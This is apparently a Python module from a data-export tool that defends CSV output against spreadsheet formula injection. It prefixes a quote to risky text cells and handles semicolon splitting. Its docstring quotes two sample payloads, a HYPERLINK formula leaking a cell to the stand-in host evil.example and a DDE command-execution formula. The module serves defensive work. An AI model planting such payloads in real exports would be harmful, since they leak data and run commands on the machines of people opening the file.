"""CSV that a spreadsheet opens as text: the guard against formula injection (OWASP "CSV Injection").

A plan's cells are typed by many people and copied from mails and web pages. A
cell text such as ``=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")``
or ``=cmd|' /C calc'!A0`` is harmless in the plan, where Excel stores it as
text, but a CSV file has no types: Excel (and LibreOffice, Google Sheets)
turns a field that starts with ``=``, ``+``, ``-`` or ``@`` into a formula
when the file is opened, and a tab or carriage return in front can hide it.
OWASP's advice is to put a single quote in front of such a text; the
spreadsheet then shows it as text (with the quote visible).

Only text cells are guarded: numbers stay numbers (a count of -5 is no
formula), while a text cell that says "-5" is prefixed like any other text.
Parquet and JSON are written raw: they are typed, and nothing executes them.
``--raw-csv`` (``raw=True`` in Python) writes texts unchanged, for programs that
read the CSV as data and never as a spreadsheet.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate (or hide) a CSV field (OWASP)."""
PREFIX = "'"


_AFTER_SEMICOLON = re.compile(r";(?=[=+\-@\t\r])")


def guard_text(text: str) -> str:
    """``text`` as a spreadsheet must show it: a single quote in front when it would start a formula.

    Excel with Swedish settings splits a comma-separated file at semicolons, so
    a text such as ``a;=cmd…`` would start a formula in the middle: a quote goes
    after such a semicolon too.
    """
    text = _AFTER_SEMICOLON.sub(";" + PREFIX, text) if ";" in text else text
    return PREFIX + text if text.startswith(TRIGGERS) else text


def guard_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are guarded (see :func:`guard_text`); other columns as they were.

    Text columns are found by their dtype (object or string), so a numeric
    column is never touched; within an object column only ``str`` values are.
    """
    import pandas as pd

    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        out[name] = column.map(lambda v: guard_text(v) if isinstance(v, str) else v)
    return out
